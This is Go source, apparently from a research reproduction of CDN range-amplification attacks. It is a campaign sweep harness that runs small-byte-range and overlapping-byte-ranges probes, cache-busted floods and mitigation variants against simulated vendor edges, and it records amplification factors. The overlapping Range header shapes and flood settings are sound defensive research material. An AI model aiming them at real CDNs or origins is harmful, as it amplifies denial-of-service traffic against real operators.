		err = runFloodCell(ctx, c, out)
	case c.Experiment == KindOBR:
		err = runOBRCell(ctx, c, out)
	case strings.HasPrefix(c.Experiment, ExpPrefix):
		err = runExpCell(ctx, c, parallel, out)
	default:
		err = fmt.Errorf("unknown cell kind %q", c.Experiment)
	}
	if err != nil {
		return nil, err
	}
	out.DurationMS = time.Since(start).Milliseconds()
	return out, nil
}

// fill copies an amplification measurement into the result.
func fill(out *CellResult, a measure.Amplification) {
	out.VictimBytes = a.VictimBytes
	out.AttackerBytes = a.AttackerBytes
	out.Factor = a.Factor()
}

// truncRange caps a stored Range header at 64 bytes (OBR max-n headers
// run to tens of kilobytes; the result file records the shape, not the
// payload).
func truncRange(h string) string {
	if len(h) > 64 {
		return h[:61] + "..."
	}
	return h
}

// sbrTopology stands up one SBR cell's isolated topology, following
// the sweep protocol exactly (prime the size hint, then reset the
// measured segments) so campaign cells reproduce the Table IV / Fig 6
// golden numbers bit for bit.
func sbrTopology(c CellConfig) (*core.SBRTopology, core.SBRCase, error) {
	profile, err := c.Profile()
	if err != nil {
		return nil, core.SBRCase{}, err
	}
	rcase, err := c.RangeCase()
	if err != nil {
		return nil, core.SBRCase{}, err
	}
	rt := core.NewRuntime()
	store := core.NewStoreWith(int64(c.SizeMB) * core.MiB)
	topo, err := core.NewSBRTopology(profile, store, c.SBROptions(rt))
	if err != nil {
		return nil, core.SBRCase{}, err
	}
	if err := core.PrimeSizeHint(topo, core.TargetPath); err != nil {
		topo.Close()
		return nil, core.SBRCase{}, err
	}
	topo.ClientSeg.Reset()
	topo.OriginSeg.Reset()
	return topo, rcase, nil
}

// runSBRCell measures one probe (or one keep-alive session) against
// the cell's vendor edge. A warm cell runs the identical attack once
// first — the cache-busting keys match, so the measured run is served
// from the edge cache.
func runSBRCell(ctx context.Context, c CellConfig, out *CellResult) error {
	topo, rcase, err := sbrTopology(c)
	if err != nil {
		return err
	}
	defer topo.Close()
	if c.KeepAlive {
		// One persistent session carrying the probe: a single-worker,
		// single-request flood through the canonical entry point. The
		// request bytes are identical to the per-dial path; only the
		// connection economy differs.
		fopts := core.FloodOptions{Path: core.TargetPath, Workers: 1, PerWorker: 1, KeepAlive: true, Range: rcase}
		if c.CacheState == CacheWarm {
			if _, err := core.RunSBRFloodOpts(ctx, topo, fopts); err != nil {
				return err
			}
		}
		fr, err := core.RunSBRFloodOpts(ctx, topo, fopts)
		if err != nil {
			return err
		}
		out.RangeHeader = truncRange(rcase.RangeHeader)
		out.Requests = fr.Requests
		out.Blocked = fr.Blocked
		out.Dials = fr.Dials
		fill(out, fr.Amplification)
		return nil
	}
	buster := core.CacheBuster(c.SizeMB)
	if c.CacheState == CacheWarm {
		if _, err := core.RunSBRCase(ctx, topo, core.TargetPath, rcase, buster); err != nil {
			return err
		}
	}
	sbr, err := core.RunSBRCase(ctx, topo, core.TargetPath, rcase, buster)
	if err != nil {
		return err
	}
	out.RangeHeader = truncRange(sbr.Case.RangeHeader)
	fill(out, sbr.Amplification)
	return nil
}

// runFloodCell fires the cell's Workers × PerWorker concurrent flood.
func runFloodCell(ctx context.Context, c CellConfig, out *CellResult) error {
	topo, rcase, err := sbrTopology(c)
	if err != nil {
		return err
	}
	defer topo.Close()
	fopts := c.FloodOptions(rcase)
	if c.CacheState == CacheWarm {
		if _, err := core.RunSBRFloodOpts(ctx, topo, fopts); err != nil {
			return err
		}
	}
	fr, err := core.RunSBRFloodOpts(ctx, topo, fopts)
	if err != nil {
		return err
	}
	out.RangeHeader = truncRange(rcase.RangeHeader)
	out.Requests = fr.Requests
	out.Failures = fr.Failures
	out.Blocked = fr.Blocked
	out.Dials = fr.Dials
	fill(out, fr.Amplification)
	return nil
}

// runOBRCell measures one FCDN->BCDN cascade at the paper's planned
// maximum range count over a 1 KB resource. The cell's mitigation
// applies to the BCDN (the replying side §VI-C fixes act on).
func runOBRCell(ctx context.Context, c CellConfig, out *CellResult) error {
	fcdn, err := c.Profile()
	if err != nil {
		return err
	}
	bcdn, err := c.BCDNProfile()
	if err != nil {
		return err
	}
	rt := core.NewRuntime()
	store := core.NewStoreWith(1024)
	topo, err := core.NewOBRTopologyOpts(fcdn, bcdn, store, c.OBROptions(rt))
	if err != nil {
		return err
	}
	defer topo.Close()
	r, err := core.RunOBRContext(ctx, topo, core.TargetPath, 0)
	if err != nil {
		return err
	}
	out.RangeHeader = "bytes=" + r.Case.FirstToken + ",0-,...,0-"
	out.MaxN = r.Case.N
	out.Parts = r.Parts
	fill(out, r.Amplification)
	return nil
}

// runExpCell runs a whole registered experiment as one cell, storing
// its full JSON rendering as the cell's Output.
func runExpCell(ctx context.Context, c CellConfig, parallel int, out *CellResult) error {
	name := strings.TrimPrefix(c.Experiment, ExpPrefix)
	res, err := exp.Run(ctx, name, c.ExpParams(parallel))
	if err != nil {
		return err
	}
	var buf bytes.Buffer
	if err := res.RenderJSONNamed(&buf, name); err != nil {
		return err
	}
	out.Output = json.RawMessage(bytes.TrimSpace(buf.Bytes()))
	return nil
}

// ---------------------------------------------------------------------
// Consolidated report.

// writeReport renders every cell into one table, as aligned text
// (report.txt) and CSV (report.csv), in cell expansion order.
func writeReport(dir, name string, results []*CellResult) error {
	tab := &report.Table{
		Title:   fmt.Sprintf("Campaign %s — %d cells", name, len(results)),
		Slug:    "campaign",
		Columns: []string{"Hash", "Cell", "Range", "Victim", "Attacker", "Factor"},
	}
	for _, r := range results {
		if r == nil {
			continue
		}
		factor := strconv.Itoa(int(r.Factor + 0.5))
		if strings.HasPrefix(r.Config.Experiment, ExpPrefix) {
			factor = "-"
		}
		tab.AddRow(r.Hash, r.Config.Label(), r.RangeHeader,
			measure.FormatBytes(r.VictimBytes), measure.FormatBytes(r.AttackerBytes), factor)
	}
	var txt, csv bytes.Buffer
	if err := tab.Render(&txt); err != nil {
		return err
	}
	if err := tab.RenderCSV(&csv); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(dir, "report.txt"), txt.Bytes(), 0o644); err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(dir, "report.csv"), csv.Bytes(), 0o644)
}
