package campaign

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"testing"
	"time"

	"repro/internal/obs"
)

// TestRunProgressEventStream pins the JSONL schema the -progress flag
// emits: every line parses as an obs.Event, the lifecycle is complete
// and ordered, and the accounting fields add up.
func TestRunProgressEventStream(t *testing.T) {
	dir := t.TempDir()
	var buf bytes.Buffer
	now := time.Unix(1700000000, 0).UTC()
	log := obs.NewEventLog(&buf, func() time.Time { return now })

	sum, err := Run(context.Background(), smokeSpec(), RunOptions{Dir: dir, Parallel: 1, Progress: log})
	if err != nil {
		t.Fatal(err)
	}

	var events []obs.Event
	sc := bufio.NewScanner(&buf)
	for sc.Scan() {
		var ev obs.Event
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("bad JSONL line %q: %v", sc.Text(), err)
		}
		if ev.Time.IsZero() {
			t.Errorf("event %q missing timestamp", ev.Event)
		}
		if ev.Campaign != "smoke" {
			t.Errorf("event %q campaign = %q", ev.Event, ev.Campaign)
		}
		events = append(events, ev)
	}

	// 1 start + 4 queued + 4 cell_start + 4 cell_finish + 1 finish.
	if len(events) != 14 {
		t.Fatalf("%d events, want 14", len(events))
	}
	if events[0].Event != obs.EventCampaignStart || events[0].Total != sum.Total {
		t.Errorf("first event = %+v", events[0])
	}
	counts := map[string]int{}
	var lastDone int
	for _, ev := range events {
		counts[ev.Event]++
		switch ev.Event {
		case obs.EventCellQueued, obs.EventCellStart:
			if ev.Cell == "" || ev.Label == "" {
				t.Errorf("%s without cell identity: %+v", ev.Event, ev)
			}
		case obs.EventCellFinish:
			if ev.Done <= lastDone {
				t.Errorf("done count not increasing: %+v", ev)
			}
			lastDone = ev.Done
			if ev.DurationMS < 0 {
				t.Errorf("negative duration: %+v", ev)
			}
			// ETA shrinks to zero by the last cell.
			if ev.Done == ev.Total && ev.EtaMS != 0 {
				t.Errorf("final cell ETA = %d, want 0", ev.EtaMS)
			}
		}
	}
	if counts[obs.EventCellQueued] != 4 || counts[obs.EventCellStart] != 4 ||
		counts[obs.EventCellFinish] != 4 || counts[obs.EventCampaignFinish] != 1 {
		t.Errorf("event counts = %v", counts)
	}
	last := events[len(events)-1]
	if last.Event != obs.EventCampaignFinish || last.Done != 4 || last.Total != 4 {
		t.Errorf("last event = %+v", last)
	}

	// Resumed runs narrate skips with the same schema.
	buf.Reset()
	if _, err := Run(context.Background(), smokeSpec(), RunOptions{Dir: dir, Resume: true, Progress: log}); err != nil {
		t.Fatal(err)
	}
	skips := 0
	sc = bufio.NewScanner(&buf)
	for sc.Scan() {
		var ev obs.Event
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatal(err)
		}
		if ev.Event == obs.EventCellSkip {
			skips++
		}
	}
	if skips != 4 {
		t.Errorf("resume emitted %d cell_skip events, want 4", skips)
	}
}

// TestManifestTiming pins the per-cell wall-time summary a completed
// manifest carries.
func TestManifestTiming(t *testing.T) {
	dir := t.TempDir()
	if _, err := Run(context.Background(), smokeSpec(), RunOptions{Dir: dir, Parallel: 2}); err != nil {
		t.Fatal(err)
	}
	c, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	tm := c.Manifest.Timing
	if tm == nil {
		t.Fatal("complete manifest has no timing")
	}
	if tm.MinMS < 0 || tm.MaxMS < tm.MinMS || tm.TotalMS < tm.MaxMS {
		t.Errorf("inconsistent timing: %+v", tm)
	}
	if tm.MeanMS < tm.MinMS || tm.MeanMS > tm.MaxMS {
		t.Errorf("mean outside min..max: %+v", tm)
	}
	if tm.P50MS > tm.P95MS || tm.P95MS > tm.P99MS {
		t.Errorf("quantiles not monotonic: %+v", tm)
	}

	// timingOf ignores nils and returns nil for an empty set.
	if timingOf(nil) != nil {
		t.Error("timingOf(nil) != nil")
	}
	if timingOf([]*CellResult{nil}) != nil {
		t.Error("timingOf all-nil != nil")
	}
	tm2 := timingOf([]*CellResult{{DurationMS: 10}, {DurationMS: 20}, nil})
	if tm2.TotalMS != 30 || tm2.MinMS != 10 || tm2.MaxMS != 20 || tm2.MeanMS != 15 {
		t.Errorf("timingOf = %+v", tm2)
	}
}
