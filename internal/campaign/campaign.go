// Package campaign is the declarative sweep layer of the
// reproduction: a Spec names the experiment kinds to run and the axes
// to cross (vendors × sizes × range grammars × cache states ×
// keep-alive × collapse × mitigations), expansion turns it into a flat
// list of content-addressed cells, and Run executes the cells on the
// exp scheduler — one fresh core.Runtime per cell, one JSON result
// file per cell — into a campaign directory that is resumable
// (finished cells are skipped by hash) and diffable against an older
// run of the same spec. It is the programmatic form of the paper's
// evaluation grid: Table IV / Fig 6 is the default campaign.
package campaign

import (
	"fmt"
	"strings"

	"repro/internal/exp"
	"repro/internal/vendor"
)

// Axes are the sweep dimensions a Spec crosses. Nil slices mean the
// paper's defaults; every value is validated at expansion time.
// Not every axis applies to every cell kind: sbr and flood cells cross
// all of them, obr cells cross OBRPairs × Collapse × Mitigations (the
// resource is the paper's fixed 1 KB), and "exp:" cells take SizesMB
// as a whole list and ignore the rest (the registered experiment owns
// its own iteration).
type Axes struct {
	// Vendors are the CDN profiles under test. Nil means every
	// registered vendor (the paper's 13).
	Vendors []string `json:"vendors,omitempty"`
	// SizesMB are the target resource sizes. Nil means 1, 10, 25.
	SizesMB []int `json:"sizes_mb,omitempty"`
	// RangeGrammars are the Range shapes to send. Nil means exploit
	// (each vendor's Table IV case).
	RangeGrammars []string `json:"range_grammars,omitempty"`
	// CacheStates are the edge cache conditions. Nil means cold.
	CacheStates []string `json:"cache_states,omitempty"`
	// KeepAlive crosses the attacker connection economy. Nil means
	// {false} (a fresh dial per request, the paper's setup).
	KeepAlive []bool `json:"keep_alive,omitempty"`
	// Collapse crosses edge-side request collapsing. Nil means {false}.
	Collapse []bool `json:"collapse,omitempty"`
	// Mitigations crosses the §VI-C countermeasures. Nil means none.
	Mitigations []string `json:"mitigations,omitempty"`
	// OBRPairs are the "fcdn>bcdn" cascades for obr cells. Nil means
	// the Table V list (exp.OBRPairs, 11 pairs).
	OBRPairs []string `json:"obr_pairs,omitempty"`
	// Engines crosses the flood execution engine ("pipe" or "vtime");
	// other cell kinds ignore it. Nil means the default pipe engine.
	Engines []string `json:"engines,omitempty"`
}

// Spec is a declarative campaign: which cell kinds to run and which
// axes to cross. It is plain data — serializable to JSON, hashable,
// and checkable into a repo next to the campaign directory it produced.
type Spec struct {
	// Name labels the campaign (manifest + report headers). Empty means
	// "campaign".
	Name string `json:"name,omitempty"`
	// Experiments are the cell kinds: "sbr", "flood", "obr", or
	// "exp:<registry name>". Nil means {"sbr"}.
	Experiments []string `json:"experiments,omitempty"`
	// Axes are the sweep dimensions.
	Axes Axes `json:"axes,omitempty"`
	// Workers and PerWorker shape flood cells (ignored by the other
	// kinds). Zero means the 4 × 4 default.
	Workers   int `json:"workers,omitempty"`
	PerWorker int `json:"per_worker,omitempty"`
}

// Cell is one expanded, fully specified unit of campaign work: its
// config plus the content hash that addresses its result file.
type Cell struct {
	Hash   string     `json:"hash"`
	Config CellConfig `json:"config"`
}

// withDefaults fills the paper's defaults into unset spec fields.
func (s Spec) withDefaults() Spec {
	if s.Name == "" {
		s.Name = "campaign"
	}
	if len(s.Experiments) == 0 {
		s.Experiments = []string{KindSBR}
	}
	if len(s.Axes.Vendors) == 0 {
		s.Axes.Vendors = vendor.Names()
	}
	if len(s.Axes.SizesMB) == 0 {
		s.Axes.SizesMB = []int{1, 10, 25}
	}
	if len(s.Axes.RangeGrammars) == 0 {
		s.Axes.RangeGrammars = []string{GrammarExploit}
	}
	if len(s.Axes.CacheStates) == 0 {
		s.Axes.CacheStates = []string{CacheCold}
	}
	if len(s.Axes.KeepAlive) == 0 {
		s.Axes.KeepAlive = []bool{false}
	}
	if len(s.Axes.Collapse) == 0 {
		s.Axes.Collapse = []bool{false}
	}
	if len(s.Axes.Mitigations) == 0 {
		s.Axes.Mitigations = []string{MitigationNone}
	}
	if len(s.Axes.OBRPairs) == 0 {
		for _, p := range exp.OBRPairs() {
			s.Axes.OBRPairs = append(s.Axes.OBRPairs, p[0]+">"+p[1])
		}
	}
	if len(s.Axes.Engines) == 0 {
		s.Axes.Engines = []string{""}
	}
	return s
}

// expandGrammars resolves axis macros in the RangeGrammars list: the
// value "corpus" expands in place to the whole generated ranges corpus
// ("corpus:0" .. "corpus:199"), so a one-word spec sweeps every
// grammar the corpus audit exercises, with stable per-case hashes.
func expandGrammars(grammars []string) []string {
	out := make([]string, 0, len(grammars))
	for _, g := range grammars {
		if g != GrammarCorpus {
			out = append(out, g)
			continue
		}
		for i := 0; i < CorpusGrammarCount; i++ {
			out = append(out, fmt.Sprintf("%s%d", grammarCorpusPrefix, i))
		}
	}
	return out
}

// Cells expands the spec into its flat cell list: the cross product of
// the applicable axes per experiment kind, in deterministic order
// (experiments outermost, then the axes in declaration order), every
// cell validated, duplicate hashes collapsed (two axis points that
// normalize to the same cell — an sbr cell never consumes Workers, say
// — run once). An invalid axis value fails the whole expansion so a
// bad spec dies before any cell runs.
func (s Spec) Cells() ([]Cell, error) {
	s = s.withDefaults()
	var (
		cells []Cell
		seen  = make(map[string]bool)
	)
	add := func(c CellConfig) error {
		if err := c.Validate(); err != nil {
			return fmt.Errorf("cell %s: %w", c.Label(), err)
		}
		h := c.Hash()
		if seen[h] {
			return nil
		}
		seen[h] = true
		cells = append(cells, Cell{Hash: h, Config: c.normalized()})
		return nil
	}
	for _, kind := range s.Experiments {
		switch {
		case kind == KindSBR, kind == KindFlood:
			engines := s.Axes.Engines
			if kind != KindFlood {
				engines = []string{""}
			}
			for _, v := range s.Axes.Vendors {
				for _, size := range s.Axes.SizesMB {
					for _, g := range expandGrammars(s.Axes.RangeGrammars) {
						for _, cs := range s.Axes.CacheStates {
							for _, ka := range s.Axes.KeepAlive {
								for _, col := range s.Axes.Collapse {
									for _, mit := range s.Axes.Mitigations {
										for _, eng := range engines {
											c := CellConfig{
												Experiment: kind,
												Vendor:     v,
												SizeMB:     size,
												Grammar:    g,
												CacheState: cs,
												KeepAlive:  ka,
												Collapse:   col,
												Mitigation: mit,
											}
											if kind == KindFlood {
												c.Workers = s.Workers
												c.PerWorker = s.PerWorker
												c.Engine = eng
											}
											if err := add(c); err != nil {
												return nil, err
											}
										}
									}
								}
							}
						}
					}
				}
			}
		case kind == KindOBR:
			for _, pair := range s.Axes.OBRPairs {
				fcdn, bcdn, ok := strings.Cut(pair, ">")
				if !ok {
					return nil, fmt.Errorf("bad obr pair %q (want \"fcdn>bcdn\")", pair)
				}
				for _, col := range s.Axes.Collapse {
					for _, mit := range s.Axes.Mitigations {
						if err := add(CellConfig{
							Experiment: KindOBR,
							Vendor:     strings.TrimSpace(fcdn),
							BCDN:       strings.TrimSpace(bcdn),
							Collapse:   col,
							Mitigation: mit,
						}); err != nil {
							return nil, err
						}
					}
				}
			}
		case strings.HasPrefix(kind, ExpPrefix):
			if err := add(CellConfig{Experiment: kind, SizesMB: s.Axes.SizesMB}); err != nil {
				return nil, err
			}
		default:
			return nil, fmt.Errorf("unknown experiment kind %q (have %s, %s, %s or %s<registry name>)",
				kind, KindSBR, KindFlood, KindOBR, ExpPrefix)
		}
	}
	if len(cells) == 0 {
		return nil, fmt.Errorf("campaign %q expands to zero cells", s.Name)
	}
	return cells, nil
}
