package campaign

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"strconv"
	"strings"

	"repro/internal/core"
	"repro/internal/exp"
	"repro/internal/vendor"
)

// Cell kinds: what one campaign cell executes. The probe kinds
// decompose the paper's experiments into per-configuration
// measurements; the "exp:<name>" form runs a whole registered
// experiment (internal/exp registry) as a single cell.
const (
	// KindSBR is one SBR measurement: a single probe (or one keep-alive
	// session) against one vendor edge, the Table IV / Fig 6 cell.
	KindSBR = "sbr"
	// KindFlood is a §V-D concurrent flood: Workers × PerWorker
	// cache-busted requests against one vendor edge.
	KindFlood = "flood"
	// KindOBR is one cascaded FCDN->BCDN overlapping-byte-ranges
	// measurement, the Table V cell (1 KB resource, planned max n).
	KindOBR = "obr"
	// ExpPrefix marks a registered experiment run ("exp:table1").
	ExpPrefix = "exp:"
)

// Range grammar names (the RangeGrammars axis). "exploit" resolves the
// vendor's Table IV exploited case; the rest are fixed shapes from the
// paper's probe corpus so a sweep can compare vendors on one grammar.
const (
	GrammarExploit   = "exploit"    // vendor's Table IV case (size-dependent)
	GrammarFirstByte = "first-byte" // bytes=0-0
	GrammarSuffix    = "suffix"     // bytes=-1
	GrammarOpen      = "open"       // bytes=0- (the full resource)
	GrammarOverlap8  = "overlap8"   // bytes=0-,0-,… with 8 ranges

	// GrammarCorpus is the axis macro for the whole seeded ABNF corpus:
	// Axes.RangeGrammars: ["corpus"] expands at Cells() time into one
	// cell per corpus case, named "corpus:<i>". The names — and so the
	// cell hashes — are stable because the corpus is generated from
	// pinned (seed, count) parameters, the same ones the corpus-audit
	// experiment uses.
	GrammarCorpus       = "corpus"
	grammarCorpusPrefix = "corpus:"
)

// The pinned corpus-generation parameters behind the "corpus" axis
// macro, matching the corpus-audit experiment's data set.
const (
	CorpusGrammarSeed  = 1
	CorpusGrammarCount = 200
)

// corpusGrammarCase resolves "corpus:<i>" to its generated Range set.
// Generation is cheap (a few thousand rng draws), so each resolution
// regenerates rather than caching — cells run in isolated goroutines.
func corpusGrammarCase(name string) (core.SBRCase, error) {
	i, err := strconv.Atoi(strings.TrimPrefix(name, grammarCorpusPrefix))
	if err != nil || i < 0 || i >= CorpusGrammarCount {
		return core.SBRCase{}, fmt.Errorf("bad corpus grammar %q (want %s0..%s%d)",
			name, grammarCorpusPrefix, grammarCorpusPrefix, CorpusGrammarCount-1)
	}
	set := core.NewCorpus(CorpusGrammarSeed, CorpusGrammarCount)[i]
	return core.SBRCase{RangeHeader: set.HeaderValue(), Repeat: 1}, nil
}

// Cache states (the CacheStates axis).
const (
	// CacheCold is the paper's measurement condition: a unique
	// cache-busting query forces an edge miss.
	CacheCold = "cold"
	// CacheWarm primes the exact attack keys first and measures the
	// re-run, so the edge answers from cache (upstream traffic ~0).
	CacheWarm = "warm"
	// CacheDisabled turns the edge cache off entirely.
	CacheDisabled = "disabled"
)

// Mitigation names (the Mitigations axis), mapping to the §VI-C
// vendor-profile transforms. For OBR cells the mitigation applies to
// the BCDN (the replying side); for SBR and flood cells to the vendor
// under test.
const (
	MitigationNone             = "none"
	MitigationLaziness         = "laziness"          // forward ranges unchanged
	MitigationBoundedExpansion = "bounded-expansion" // expand by at most 8 KB
	MitigationSlicing          = "slicing"           // 1 MB slice fetches
	MitigationRejectOverlap    = "reject-overlap"    // refuse overlapping sets
	MitigationCoalesce         = "coalesce"          // merge overlapping sets
)

// CellConfig is the single serializable description of one fully
// specified run. It is the campaign runner's unit of work and the
// unified form of the knobs historically scattered across exp.Params,
// core.SBROptions / core.OBROptions, core.FloodOptions and
// cmd/rangeamp flags: the SBROptions / OBROptions / FloodOptions /
// ExpParams methods re-express a cell through those existing entry
// points. Its content hash (Hash) addresses the cell's result file
// inside a campaign directory.
type CellConfig struct {
	// Experiment is the cell kind: KindSBR, KindFlood, KindOBR or
	// "exp:<registry name>".
	Experiment string `json:"experiment"`

	// Vendor is the CDN under test (the FCDN for OBR cells).
	Vendor string `json:"vendor,omitempty"`
	// BCDN is the back CDN of an OBR cascade.
	BCDN string `json:"bcdn,omitempty"`

	// SizeMB is the target resource size for SBR and flood cells. OBR
	// cells pin the paper's 1 KB resource and leave it zero.
	SizeMB int `json:"size_mb,omitempty"`
	// SizesMB is the sweep size list handed to "exp:" cells (it maps to
	// exp.Params.SizesMB); the probe kinds use the scalar SizeMB.
	SizesMB []int `json:"sizes_mb,omitempty"`

	// Grammar names the Range shape sent (GrammarExploit resolves the
	// vendor's Table IV case at SizeMB).
	Grammar string `json:"grammar,omitempty"`
	// CacheState is CacheCold, CacheWarm or CacheDisabled.
	CacheState string `json:"cache_state,omitempty"`
	// KeepAlive reuses one persistent attacker->edge session for all of
	// the cell's requests instead of a dial per request.
	KeepAlive bool `json:"keep_alive,omitempty"`
	// Collapse enables singleflight request collapsing on the edge
	// cache (the BCDN cache for OBR cells).
	Collapse bool `json:"collapse,omitempty"`
	// Mitigation applies one §VI-C profile transform (MitigationNone
	// leaves the vendor as measured in the paper).
	Mitigation string `json:"mitigation,omitempty"`

	// Workers and PerWorker shape flood cells.
	Workers   int `json:"workers,omitempty"`
	PerWorker int `json:"per_worker,omitempty"`

	// Engine selects the flood execution engine: "" or "pipe" for the
	// goroutine/pipe substrate, "vtime" for calibrated discrete-event
	// replay. Only flood cells consume it; "pipe" and "" hash
	// identically, so pre-engine campaign directories stay addressable.
	Engine string `json:"engine,omitempty"`
}

// normalized returns the config with the campaign defaults filled in,
// so that an explicit default ("grammar": "exploit") and an omitted
// field hash to the same cell.
func (c CellConfig) normalized() CellConfig {
	switch {
	case c.Experiment == KindSBR, c.Experiment == KindFlood:
		if c.Grammar == "" {
			c.Grammar = GrammarExploit
		}
		if c.CacheState == "" {
			c.CacheState = CacheCold
		}
		if c.Mitigation == "" {
			c.Mitigation = MitigationNone
		}
		if c.SizeMB == 0 {
			c.SizeMB = 10
		}
		if c.Experiment == KindFlood {
			if c.Workers == 0 {
				c.Workers = 4
			}
			if c.PerWorker == 0 {
				c.PerWorker = 4
			}
		}
	case c.Experiment == KindOBR:
		if c.Mitigation == "" {
			c.Mitigation = MitigationNone
		}
	case strings.HasPrefix(c.Experiment, ExpPrefix):
		if len(c.SizesMB) == 0 {
			c.SizesMB = []int{1, 10, 25}
		}
	}
	return c
}

// Validate checks the cell against the known vendors, grammars, cache
// states, mitigations and the experiment registry, so a bad spec fails
// at expansion time instead of hours into a sweep.
func (c CellConfig) Validate() error {
	switch {
	case c.Experiment == KindSBR, c.Experiment == KindFlood:
		if _, ok := vendor.ByName(c.Vendor); !ok {
			return fmt.Errorf("unknown vendor %q (have %s)", c.Vendor, strings.Join(vendor.Names(), ", "))
		}
		if c.SizeMB < 1 {
			return fmt.Errorf("bad size_mb %d", c.SizeMB)
		}
		switch {
		case c.Grammar == GrammarExploit, c.Grammar == GrammarFirstByte,
			c.Grammar == GrammarSuffix, c.Grammar == GrammarOpen, c.Grammar == GrammarOverlap8:
		case strings.HasPrefix(c.Grammar, grammarCorpusPrefix):
			if _, err := corpusGrammarCase(c.Grammar); err != nil {
				return err
			}
		default:
			return fmt.Errorf("unknown range grammar %q (have %s, or %s<i>)", c.Grammar,
				strings.Join([]string{GrammarExploit, GrammarFirstByte, GrammarSuffix, GrammarOpen, GrammarOverlap8}, ", "),
				grammarCorpusPrefix)
		}
		switch c.CacheState {
		case CacheCold, CacheWarm, CacheDisabled:
		default:
			return fmt.Errorf("unknown cache state %q (have %s)", c.CacheState,
				strings.Join([]string{CacheCold, CacheWarm, CacheDisabled}, ", "))
		}
		switch c.Engine {
		case "", string(core.EnginePipe):
		case string(core.EngineVTime):
			if c.Experiment != KindFlood {
				return fmt.Errorf("engine %q applies to flood cells only", c.Engine)
			}
			if c.CacheState == CacheWarm {
				// The vtime engine's replayed requests never enter the edge
				// cache, so a warm-up pass would not warm what the measured
				// pass replays.
				return fmt.Errorf("engine %q cannot run warm-cache cells", c.Engine)
			}
		default:
			return fmt.Errorf("unknown engine %q (have %s, %s)", c.Engine, core.EnginePipe, core.EngineVTime)
		}
		if _, err := mitigated(nil, c.Mitigation); err != nil {
			return err
		}
	case c.Experiment == KindOBR:
		if _, ok := vendor.ByName(c.Vendor); !ok {
			return fmt.Errorf("unknown fcdn %q", c.Vendor)
		}
		if _, ok := vendor.ByName(c.BCDN); !ok {
			return fmt.Errorf("unknown bcdn %q", c.BCDN)
		}
		if c.Engine != "" && c.Engine != string(core.EnginePipe) {
			return fmt.Errorf("engine %q applies to flood cells only", c.Engine)
		}
		if _, err := mitigated(nil, c.Mitigation); err != nil {
			return err
		}
	case strings.HasPrefix(c.Experiment, ExpPrefix):
		name := strings.TrimPrefix(c.Experiment, ExpPrefix)
		if _, ok := exp.Lookup(name); !ok {
			return fmt.Errorf("unknown registered experiment %q", name)
		}
	default:
		return fmt.Errorf("unknown cell kind %q (have %s, %s, %s or %s<registry name>)",
			c.Experiment, KindSBR, KindFlood, KindOBR, ExpPrefix)
	}
	return nil
}

// Hash returns the cell's stable content address: the first 16 hex
// digits of a SHA-256 over the sorted key=value lines of the
// normalized config's non-zero fields. Sorting makes the hash
// independent of field order (in the struct and in any JSON spec), and
// skipping zero fields means adding a future axis cannot move the
// hashes of cells that leave it at the default — so old campaign
// directories stay addressable. The exact values are pinned by golden
// tests; changing this function invalidates every stored campaign.
func (c CellConfig) Hash() string {
	c = c.normalized()
	kv := make([]string, 0, 12)
	add := func(k, v string) {
		if v != "" {
			kv = append(kv, k+"="+v)
		}
	}
	add("experiment", c.Experiment)
	add("vendor", c.Vendor)
	add("bcdn", c.BCDN)
	if c.SizeMB != 0 {
		add("size_mb", strconv.Itoa(c.SizeMB))
	}
	if len(c.SizesMB) > 0 {
		parts := make([]string, len(c.SizesMB))
		for i, s := range c.SizesMB {
			parts[i] = strconv.Itoa(s)
		}
		add("sizes_mb", strings.Join(parts, ","))
	}
	if c.Grammar != GrammarExploit {
		add("grammar", c.Grammar)
	}
	if c.CacheState != CacheCold {
		add("cache_state", c.CacheState)
	}
	if c.KeepAlive {
		add("keep_alive", "true")
	}
	if c.Collapse {
		add("collapse", "true")
	}
	if c.Mitigation != MitigationNone {
		add("mitigation", c.Mitigation)
	}
	if c.Workers != 0 {
		add("workers", strconv.Itoa(c.Workers))
	}
	if c.PerWorker != 0 {
		add("per_worker", strconv.Itoa(c.PerWorker))
	}
	if c.Engine != "" && c.Engine != string(core.EnginePipe) {
		add("engine", c.Engine)
	}
	sort.Strings(kv)
	h := sha256.New()
	for _, line := range kv {
		h.Write([]byte(line))
		h.Write([]byte{'\n'})
	}
	return hex.EncodeToString(h.Sum(nil))[:16]
}

// Label renders a short human-readable cell identity for logs, reports
// and diff output.
func (c CellConfig) Label() string {
	c = c.normalized()
	var b strings.Builder
	b.WriteString(c.Experiment)
	if c.Vendor != "" {
		b.WriteString(" " + c.Vendor)
	}
	if c.BCDN != "" {
		b.WriteString(">" + c.BCDN)
	}
	if c.SizeMB > 0 {
		fmt.Fprintf(&b, " %dMB", c.SizeMB)
	}
	if c.Grammar != "" && c.Grammar != GrammarExploit {
		b.WriteString(" " + c.Grammar)
	}
	if c.CacheState != "" && c.CacheState != CacheCold {
		b.WriteString(" " + c.CacheState)
	}
	if c.KeepAlive {
		b.WriteString(" ka")
	}
	if c.Collapse {
		b.WriteString(" collapse")
	}
	if c.Mitigation != "" && c.Mitigation != MitigationNone {
		b.WriteString(" +" + c.Mitigation)
	}
	if c.Engine != "" && c.Engine != string(core.EnginePipe) {
		b.WriteString(" @" + c.Engine)
	}
	return b.String()
}

// mitigated applies the named §VI-C transform to p. A nil p validates
// the name only.
func mitigated(p *vendor.Profile, name string) (*vendor.Profile, error) {
	apply := func(f func(*vendor.Profile) *vendor.Profile) *vendor.Profile {
		if p == nil {
			return nil
		}
		return f(p)
	}
	switch name {
	case "", MitigationNone:
		return p, nil
	case MitigationLaziness:
		return apply(vendor.MitigateLaziness), nil
	case MitigationBoundedExpansion:
		return apply(func(p *vendor.Profile) *vendor.Profile { return vendor.MitigateBoundedExpansion(p, 8<<10) }), nil
	case MitigationSlicing:
		return apply(func(p *vendor.Profile) *vendor.Profile { return vendor.MitigateSlicing(p, 1<<20) }), nil
	case MitigationRejectOverlap:
		return apply(vendor.MitigateRejectOverlap), nil
	case MitigationCoalesce:
		return apply(vendor.MitigateCoalesce), nil
	}
